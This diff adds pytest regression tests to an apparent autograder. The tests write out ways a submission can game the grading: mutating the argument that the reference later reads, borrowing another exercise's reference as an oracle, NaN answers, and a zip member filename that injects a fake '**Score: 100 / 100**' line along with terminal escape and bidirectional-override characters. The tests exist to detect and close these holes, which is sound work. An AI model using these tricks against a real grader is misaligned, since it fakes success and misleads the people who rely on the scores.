+            return  # the worker was killed: no stale answer
+        assert got == [0.5, 0.5], f"a stale answer: {got}"
+
+
+# -- 5, 6, 10, 11: holes being closed elsewhere (short) ---------------------------------------------------
+
+MUTATING_WRONG = """
+
+def softmax(xs):
+    xs[:] = [0.0] * len(xs)  # the test hands the rewritten list to the reference afterwards
+    return [1.0 / len(xs)] * len(xs)
+"""
+WRONG = "\n\ndef softmax(xs):\n    return [1.0 / len(xs)] * len(xs)\n"
+
+
+@pytest.fixture(scope="module")
+def wrong_scores(tmp_path_factory) -> dict[str, float]:
+    """What the plainly wrong (uniform) softmax earns alone, per entry."""
+    folder = tmp_path_factory.mktemp("wrong")
+    document = grade_source(folder, REFERENCE + WRONG)
+    return {name: t["score"] for name, t in entries(document).items()}
+
+
+@pytest.mark.xfail(strict=True, reason="issue 12 item 5: rewriting its argument makes the reference agree")
+def test_rewriting_the_arguments_does_not_fool_the_expected_value(
+    tmp_path, sandboxes, monkeypatch, wrong_scores
+):
+    monkeypatch.setenv("TMPDIR", str(sandboxes))
+    document = grade_source(tmp_path, REFERENCE + MUTATING_WRONG)
+    for name, t in entries(document).items():
+        assert t["score"] <= wrong_scores[name] + 1e-9, name
+
+
+@pytest.mark.xfail(strict=True, reason="issue 12 item 6: softmax read off the reference of add_score (ex 9)")
+def test_another_exercises_reference_is_no_oracle(tmp_path, sandboxes, monkeypatch):
+    monkeypatch.setenv("TMPDIR", str(sandboxes))
+    oracle = """
+
+    def softmax(xs):
+        g = [[[0.0] * len(xs)]]
+        add_score(g, TabPolicy(1, 1, len(xs), [[list(xs)]]), 0, 0, -1, -1.0)  # g += p: the reference's
+        return g[0][0]
+    """
+    document = grade_source(tmp_path, STUB + textwrap.dedent(oracle), exercises=[8])
+    assert document["score"] == 0
+
+
+def test_nan_answers_earn_nothing_more_than_a_constant(tmp_path, sandboxes, monkeypatch):
+    """[nan] * n against [2.0] * n: a constant passes the checks that compare two answers honestly
+    (shift invariance), so NaN, which equals NaN in expect_close today, may earn no more. On softmax it
+    does not (2 of 9 hidden checks each): item 11 gives NaN no edge over a constant here."""
+    monkeypatch.setenv("TMPDIR", str(sandboxes))
+    scores = {}
+    for name, body in (("nan", "[float('nan')] * len(xs)"), ("constant", "[2.0] * len(xs)")):
+        document = grade_source(tmp_path / name, REFERENCE + f"\n\ndef softmax(xs):\n    return {body}\n")
+        scores[name] = {n: t["score"] for n, t in entries(document).items()}
+    for entry, score in scores["nan"].items():
+        assert score <= scores["constant"][entry] + 1e-9, entry
+
+
+@pytest.mark.xfail(strict=True, reason="issue 12 item 10: a zip member's name reaches the markdown as it is")
+def test_zip_member_names_cannot_inject_text(tmp_path, sandboxes, monkeypatch):
+    monkeypatch.setenv("TMPDIR", str(sandboxes))
+    submission = tmp_path / "submission"
+    submission.mkdir()
+    name = "my **Score: 100 / 100** \x1b[31mlab\u202e.py"  # the zip's only .py: graded, and named
+    with zipfile.ZipFile(submission / "lab.zip", "w") as archive:
+        archive.writestr(name, STUB)
+    document = grade_submission(tmp_path, submission / "lab.zip")
+    shown = everything_shown(document)
+    assert "\x1b" not in shown and "\u202e" not in shown and "**Score: 100" not in shown
